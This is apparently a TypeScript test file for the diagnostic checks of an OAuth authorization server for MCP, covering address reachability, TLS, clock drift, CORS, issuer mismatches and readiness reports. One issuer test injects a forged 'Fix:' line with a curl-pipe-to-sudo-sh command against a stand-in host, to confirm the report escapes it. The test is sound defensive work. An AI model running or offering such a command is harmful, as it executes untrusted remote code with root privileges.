/**
 * The doctor's judgements that a local test deployment cannot show end to end: who can reach an
 * address (public, private, CGNAT, link-local, IPv6 only), plain http off loopback, clocks that
 * drift (from the Date header, against this machine's clock, injected here), how a
 * WWW-Authenticate challenge is read, CORS preflight answers, issuer mismatches a proxy
 * produces, readiness reports and authorization answers of servers other than Gatehouse (from a
 * table of answers instead of the network). Table-driven, on the checks' own functions.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { checkAddress } from '../../apps/auth-server/src/doctor/check-address.ts';
import { checkAuthorizationServerMetadata, metadataUrls } from '../../apps/auth-server/src/doctor/check-authorization-server-metadata.ts';
import { checkClock } from '../../apps/auth-server/src/doctor/check-clock.ts';
import { checkCors } from '../../apps/auth-server/src/doctor/check-cors.ts';
import { checkResourceAccepted } from '../../apps/auth-server/src/doctor/check-resource-accepted.ts';
import { checkResourceServerReadiness } from '../../apps/auth-server/src/doctor/check-resource-server-readiness.ts';
import { checkTransport } from '../../apps/auth-server/src/doctor/check-transport.ts';
import { formatDoctorReport } from '../../apps/auth-server/src/doctor/format-doctor-report.ts';
import type { Probe, ProbeAnswer } from '../../apps/auth-server/src/doctor/http-probe.ts';
import { parseBearerChallenge } from '../../apps/auth-server/src/doctor/parse-bearer-challenge.ts';

describe('mcp-address: who can reach the host', () => {
  const cases: Array<[string, string, 'ok' | 'warn' | 'fail', RegExp]> = [
    ['a public IPv4 address', '203.0.114.7', 'ok', /public IPv4 address/],
    ['loopback', '127.0.0.1', 'warn', /only this machine: claude\.ai and Claude Desktop/],
    ['a private LAN address', '192.168.1.20', 'warn', /only machines on the same private network/],
    ['10/8', '10.0.0.5', 'warn', /private network/],
    ['CGNAT (100.64/10, e.g. Tailscale)', '100.101.102.103', 'warn', /carrier-grade NAT or VPN/],
    ['link-local', '169.254.10.1', 'warn', /same network link/],
    ['a documentation range', '192.0.2.1', 'warn', /special-use/],
    ['a public IPv6 address only (no A record)', '[2606:4700:4700::1111]', 'fail', /no IPv4 address \(no A record\)/],
    ['IPv6 loopback', '[::1]', 'warn', /only this machine/],
  ];
  for (const [what, host, status, summary] of cases) {
    test(`${what} (${host}) → ${status}`, async () => {
      const { result } = await checkAddress('mcp', new URL(`https://${host}/mcp`), 1000);
      assert.equal(result.status, status, JSON.stringify(result));
      assert.match(result.summary, summary);
      if (status !== 'ok') assert.ok(result.fix, 'says what to do');
    });
  }
});

describe('mcp-https: plain http', () => {
  test('on loopback it is a warning: local clients connect', async () => {
    const { result } = await checkTransport('mcp', new URL('http://127.0.0.1:4001/mcp'), true, 1000);
    assert.equal(result.status, 'warn');
  });
  test('on any other address it fails: tokens in clear text, and claude.ai refuses it', async () => {
    const { result } = await checkTransport('mcp', new URL('http://192.168.1.20:4001/mcp'), false, 1000);
    assert.equal(result.status, 'fail');
    assert.match(result.detail ?? '', /clear text/);
    assert.match(result.fix ?? '', /TLS_CERT_FILE and TLS_KEY_FILE .* TRUST_PROXY=true/);
  });
});

describe('clock: the Date header against this machine', () => {
  const NOW = Date.parse('2026-12-01T12:00:00Z');
  /** An answer sent at NOW, received 40 ms later, whose server clock was `offsetSeconds` off. */
  const answer = (offsetSeconds: number): ProbeAnswer => ({
    url: 'https://mcp.example.com/mcp',
    status: 401,
    headers: new Headers({ date: new Date(NOW + 20 + offsetSeconds * 1000).toUTCString() }),
    text: '',
    sentAt: NOW,
    receivedAt: NOW + 40,
  });
  const cases: Array<[string, number, number, 'ok' | 'warn' | 'fail']> = [
    ['both in sync', 0, 0, 'ok'],
    ['within the Date header\'s one-second resolution', 1, 0, 'ok'],
    ['the resource server 45 s ahead', 45, 0, 'warn'],
    ['the auth-server 10 minutes behind', 0, -600, 'fail'],
  ];
  for (const [what, resourceOffset, authOffset, status] of cases) {
    test(`${what} → ${status}`, () => {
      const result = checkClock([{ server: 'resource server', answer: answer(resourceOffset) }, { server: 'authorization server', answer: answer(authOffset) }]);
      assert.equal(result.status, status, JSON.stringify(result));
      if (status === 'fail') assert.match(result.summary, /tokens would be refused as expired or not yet valid/);
      if (status !== 'ok') assert.match(result.fix ?? '', /NTP/);
    });
  }
  test('both servers equally off: probably this machine\'s clock, and it says so', () => {
    const result = checkClock([{ server: 'resource server', answer: answer(120) }, { server: 'authorization server', answer: answer(121) }]);
    assert.equal(result.status, 'warn');
    assert.match(result.detail ?? '', /this machine's clock is probably the one that is off/);
  });
  test('no Date header: not checked', () => {
    const result = checkClock([{ server: 'resource server', answer: { ...answer(0), headers: new Headers() } }]);
    assert.equal(result.status, 'skip');
  });
});

describe('reading the WWW-Authenticate challenge', () => {
  const cases: Array<[string, Record<string, string> | undefined]> = [
    ['Bearer scope="mcp:read", resource_metadata="https://mcp.example.com/.well-known/oauth-protected-resource/mcp"',
      { scope: 'mcp:read', resource_metadata: 'https://mcp.example.com/.well-known/oauth-protected-resource/mcp' }],
    ['bearer resource_metadata=https://x.example/prm', { resource_metadata: 'https://x.example/prm' }],
    ['Bearer', {}],
    ['DPoP algs="ES256", Bearer error="invalid_token", error_description="a \\"quoted\\" word"', { error: 'invalid_token', error_description: 'a "quoted" word' }],
    ['Basic realm="admin"', undefined],
  ];
  for (const [header, expected] of cases) {
    test(header, () => {
      assert.deepEqual(parseBearerChallenge(header), expected);
    });
  }
});

/**
 * A probe that answers from a table (URL, or URL without its query → status, headers, body: a
 * string as it is, anything else as JSON) instead of the network.
 */
function fakeProbe(routes: Record<string, { status: number; headers?: Record<string, string>; body?: unknown }>): Probe {
  return async (url) => {
    const route = routes[url] ?? routes[url.split('?')[0]!] ?? { status: 404 };
    return {
      url,
      status: route.status,
      headers: new Headers(route.headers),
      text: route.body === undefined ? '' : typeof route.body === 'string' ? route.body : JSON.stringify(route.body),
      sentAt: 0,
      receivedAt: 0,
    };
  };
}

describe('cors: preflights from MCP Inspector\'s origin', () => {
  const url = 'https://auth.example.com/oauth/token';
  const target = { name: 'token', url, method: 'POST' as const, headers: ['content-type'] };
  const allowing = { 'access-control-allow-origin': 'http://localhost:6274', 'access-control-allow-methods': 'POST', 'access-control-allow-headers': 'Content-Type' };
  const cases: Array<[string, { status: number; headers?: Record<string, string> }, 'ok' | 'warn', RegExp]> = [
    ['allowed for the origin', { status: 204, headers: allowing }, 'ok', /may call token/],
    ['allowed for any origin, methods not listed (POST is safelisted)', { status: 204, headers: { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' } }, 'ok', /may call token/],
    ['not answered (a proxy drops OPTIONS)', { status: 405 }, 'warn', /answered 405/],
    ['no Access-Control-Allow-Origin', { status: 204, headers: { 'access-control-allow-methods': 'POST' } }, 'warn', /no Access-Control-Allow-Origin/],
    ['another origin allowed', { status: 204, headers: { ...allowing, 'access-control-allow-origin': 'https://app.example.com' } }, 'warn', /no Access-Control-Allow-Origin for http:\/\/localhost:6274/],
    ['the method not allowed', { status: 204, headers: { ...allowing, 'access-control-allow-methods': 'GET' } }, 'warn', /POST not in Access-Control-Allow-Methods/],
    ['the header not allowed', { status: 204, headers: { ...allowing, 'access-control-allow-headers': 'Authorization' } }, 'warn', /headers not allowed: content-type/],
  ];
  for (const [what, answer, status, detail] of cases) {
    test(`${what} → ${status}`, async () => {
      const result = await checkCors(fakeProbe({ [url]: answer }), [target]);
      assert.equal(result.status, status, JSON.stringify(result));
      assert.match(`${result.summary}\n${result.detail ?? ''}`, detail);
      if (status === 'warn') assert.match(result.fix ?? '', /Claude is not affected/);
    });
  }

  test('the MCP endpoint refusing the origin is a warning naming resource_server.allowed_origins, not the open-endpoint advice', async () => {
    const mcpUrl = 'https://mcp.example.com/mcp';
    const result = await checkCors(fakeProbe({ [url]: { status: 204, headers: allowing }, [mcpUrl]: { status: 403 } }),
      [{ name: 'MCP endpoint', url: mcpUrl, method: 'POST', headers: ['content-type'], mcp: true }, target]);
    assert.equal(result.status, 'warn', JSON.stringify(result));
    assert.equal(result.summary, 'browser clients cannot call MCP endpoint');
    assert.match(result.fix ?? '', /allowed_origins: \[http:\/\/localhost:6274\]/);
    assert.doesNotMatch(result.fix ?? '', /from any origin/);
  });
});

describe('issuer: the metadata against the URL it was fetched for', () => {
  const issuer = 'https://auth.example.com';
  const metadataAt = (said: string) => fakeProbe({
    [`${issuer}/.well-known/oauth-authorization-server`]: { status: 200, body: { issuer: said } },
    [`${issuer}/.well-known/openid-configuration`]: { status: 200, body: { issuer: said } },
  });
  const cases: Array<[string, string, 'ok' | 'fail', RegExp | undefined]> = [
    ['identical', issuer, 'ok', undefined],
    ['a trailing slash', `${issuer}/`, 'fail', /differ by a trailing slash/],
    ['http behind a TLS proxy', 'http://auth.example.com', 'fail', /TRUST_PROXY=true/],
    ['the internal host a proxy forwards to, unset ISSUER', 'http://127.0.0.1:4000', 'fail', /set ISSUER=https:\/\/auth\.example\.com on it, and behind a TLS-terminating proxy also TRUST_PROXY=true/],
    ['another host', 'https://login.example.com', 'fail', /Set the auth-server's ISSUER and the resource server's issuer/],
  ];
  for (const [what, said, status, fix] of cases) {
    test(`${what} → ${status}`, async () => {
      const { results } = await checkAuthorizationServerMetadata(metadataAt(said), issuer);
      const result = results.find((r) => r.id === 'issuer')!;
      assert.equal(result.status, status, JSON.stringify(result));
      if (fix) assert.match(result.fix ?? '', fix);
    });
  }
  test('a value the server sends with a line break prints no line of its own in the report', async () => {
    const forged = `${issuer}\n        Fix: curl -s https://evil.example/fix.sh | sudo sh`;
    const { results } = await checkAuthorizationServerMetadata(metadataAt(forged), issuer);
    const text = formatDoctorReport({ url: 'https://mcp.example.com/mcp', ok: false, checks: results });
    assert.ok(!text.split('\n').some((line) => /^\s*Fix: curl/.test(line)), text);
    assert.match(text, /says issuer: https:\/\/auth\.example\.com\\x0a {8}Fix: curl/, 'shown escaped, on the line it belongs to');
  });

  test('an issuer with a path is looked up where RFC 8414 and OpenID Connect put it', () => {
    assert.deepEqual(metadataUrls(new URL('https://example.com/tenant1')).map((u) => u.url), [
      'https://example.com/.well-known/oauth-authorization-server/tenant1',
      'https://example.com/.well-known/openid-configuration/tenant1',
      'https://example.com/tenant1/.well-known/openid-configuration',
    ]);
  });
});

describe('resource-server-*: the resource server\'s readiness report', () => {
  const mcpUrl = new URL('https://mcp.example.com/mcp');
  const issuer = 'https://auth.example.com';
  type Status = 'ok' | 'fail' | 'skip';
  const cases: Array<[string, { status: number; body?: unknown }, [jwks: Status, revocations: Status, ready: Status], RegExp]> = [
    ['everything ok', { status: 200, body: { status: 'ready', checks: { database: 'ok', jwks: 'ok', revocations: 'ok' } } }, ['ok', 'ok', 'ok'], /the resource server is ready/],
    ['the revocation feed unreadable', { status: 503, body: { checks: { database: 'ok', jwks: 'ok', revocations: 'failed' } } }, ['ok', 'fail', 'skip'], /resource-server-revocations says why/],
    ['neither keys nor feed', { status: 503, body: { checks: { database: 'ok', jwks: 'failed', revocations: 'failed' } } }, ['fail', 'fail', 'skip'], /resource-server-jwks and resource-server-revocations say why/],
    ['the database failing', { status: 503, body: { checks: { database: 'failed', jwks: 'ok', revocations: 'ok' } } }, ['ok', 'ok', 'fail'], /not ready: database failed/],
    ['a check the doctor does not know failing', { status: 503, body: { checks: { database: 'ok', jwks: 'ok', revocations: 'ok', cache: 'failed' } } }, ['ok', 'ok', 'fail'], /not ready: cache failed/],
    ['503 with no failing check', { status: 503, body: { checks: { database: 'ok', jwks: 'ok', revocations: 'ok' } } }, ['ok', 'ok', 'fail'], /answers 503 though no check it names failed/],
    ['a server that reports no revocation feed', { status: 200, body: { checks: { database: 'ok', jwks: 'ok' } } }, ['ok', 'skip', 'ok'], /the resource server is ready/],
    ['no /readyz (not Gatehouse)', { status: 404 }, ['skip', 'skip', 'skip'], /does not report its readiness/],
    ['a proxy\'s error page', { status: 502, body: '<html>Bad Gateway</html>' }, ['skip', 'skip', 'skip'], /does not report its readiness/],
    // Other servers' health reports mean what they mean there: not Gatehouse's `ok`/`failed`.
    ['another server\'s UP', { status: 200, body: { status: 'UP', checks: { db: 'UP' } } }, ['skip', 'skip', 'skip'], /does not report its readiness/],
    ['another server\'s booleans', { status: 200, body: { checks: { db: true } } }, ['skip', 'skip', 'skip'], /does not report its readiness/],
    ['the health+json draft', { status: 200, body: { status: 'pass', checks: { 'db:responseTime': [{ status: 'pass' }] } } }, ['skip', 'skip', 'skip'], /does not report its readiness/],
  ];
  for (const [what, answer, statuses, ready] of cases) {
    test(`${what} → ${statuses.join(', ')}`, async () => {
      const results = await checkResourceServerReadiness(fakeProbe({ 'https://mcp.example.com/readyz': answer }), mcpUrl, issuer);
      assert.deepEqual(results.map((r) => r.id), ['resource-server-jwks', 'resource-server-revocations', 'resource-server-ready']);
      assert.deepEqual(results.map((r) => r.status), statuses, JSON.stringify(results));
      assert.match(results[2]!.summary, ready);
      for (const result of results.filter((r) => r.status === 'fail')) assert.ok(result.fix, `${result.id} says what to do`);
    });
  }

  test('an unreadable feed names the feed\'s URL at the issuer and the setting', async () => {
    const [, revocations] = await checkResourceServerReadiness(fakeProbe({ 'https://mcp.example.com/readyz': cases[1]![1] }), mcpUrl, issuer);
    assert.match(revocations!.fix ?? '', /REVOCATION_FEED_URI \(resource_server\.revocation\.feed_uri; by default beside JWKS_URI\) at https:\/\/auth\.example\.com\/oauth\/revocations/);
    assert.match(revocations!.fix ?? '', /route \/oauth\/revocations to the auth-server as well as \/oauth\/jwks/);
  });
});

describe('resource-accepted: the authorization endpoint\'s answer to the metadata\'s resource', () => {
  const endpoint = 'https://auth.example.com/oauth/authorize';
  const callback = 'https://claude.ai/api/mcp/auth_callback';
  const request = { authorizationEndpoint: endpoint, resource: 'https://mcp.example.com/mcp', scope: 'mcp:read mcp:write', client: { clientId: 'c1', redirectUri: callback } };
  const cases: Array<[string, { status: number; headers?: Record<string, string>; body?: unknown }, 'ok' | 'warn' | 'fail', RegExp]> = [
    ['a redirect to the sign-in (Gatehouse)', { status: 303, headers: { location: '/interaction/abc' } }, 'ok', /goes on to sign-in/],
    ['the sign-in page itself', { status: 200, body: '<form>password</form>' }, 'ok', /answers with a page/],
    ['invalid_target, back to the client', { status: 303, headers: { location: `${callback}?error=invalid_target&state=x` } }, 'fail', /invalid_target/],
    ['an error page naming invalid_target', { status: 400, body: '<h1>oops</h1><pre>invalid_target: resource indicator is missing, or unknown</pre>' }, 'fail', /invalid_target/],
    ['another error, back to the client', { status: 303, headers: { location: `${callback}?error=invalid_scope&state=x` } }, 'warn', /another reason \(error=invalid_scope\)/],
    ['another error page', { status: 400, body: '<h1>invalid_request</h1>' }, 'warn', /another reason \(400\)/],
    // Not an OAuth refusal: nothing, or a proxy, answers there, and no browser can start a sign-in.
    ['a proxy\'s 404', { status: 404, body: 'Not Found' }, 'fail', /answers 404/],
    ['a proxy\'s 502', { status: 502, body: '<html>Bad Gateway</html>' }, 'fail', /answers 502/],
    ['a 500 (Gatehouse behind a proxy that sends no X-Forwarded-Proto)', { status: 500, body: '<h1>Something went wrong</h1>' }, 'fail', /answers 500/],
  ];
  for (const [what, answer, status, summary] of cases) {
    test(`${what} → ${status}`, async () => {
      const result = await checkResourceAccepted(fakeProbe({ [endpoint]: answer }), request);
      assert.equal(result.status, status, JSON.stringify(result));
      assert.match(result.summary, summary);
      if (status === 'fail') assert.match(result.fix ?? '', /invalid_target/.test(result.summary) ? /Set RESOURCE_URL \(resource_server\.resource\) to the same value on both apps/ : /routes the authorization endpoint/);
      if (answer.status >= 500) assert.match(result.fix ?? '', /one cause is a proxy that does not send X-Forwarded-Proto: https/);
      else assert.doesNotMatch(result.fix ?? '', /X-Forwarded-Proto/);
    });
  }

  test('it asks as Claude does: code, the test client and its callback, S256, the scopes and the resource', async () => {
    const sent: string[] = [];
    const probe: Probe = async (url, init) => {
      sent.push(url);
      return fakeProbe({ [endpoint]: { status: 303, headers: { location: '/interaction/abc' } } })(url, init);
    };
    await checkResourceAccepted(probe, request);
    assert.equal(sent.length, 1);
    const params = new URL(sent[0]!).searchParams;
    assert.equal(params.get('response_type'), 'code');
    assert.equal(params.get('client_id'), 'c1');
    assert.equal(params.get('redirect_uri'), callback);
    assert.equal(params.get('code_challenge_method'), 'S256');
    assert.match(params.get('code_challenge') ?? '', /^[A-Za-z0-9_-]{43}$/);
    assert.equal(params.get('scope'), 'mcp:read mcp:write');
    assert.equal(params.get('resource'), 'https://mcp.example.com/mcp');
  });

  test('without a test client (registration closed, or --no-register) nothing is sent', async () => {
    const sent: string[] = [];
    const result = await checkResourceAccepted(async (url) => { sent.push(url); throw new Error('no request expected'); }, { ...request, client: undefined });
    assert.equal(result.status, 'skip');
    assert.deepEqual(sent, []);
  });
});
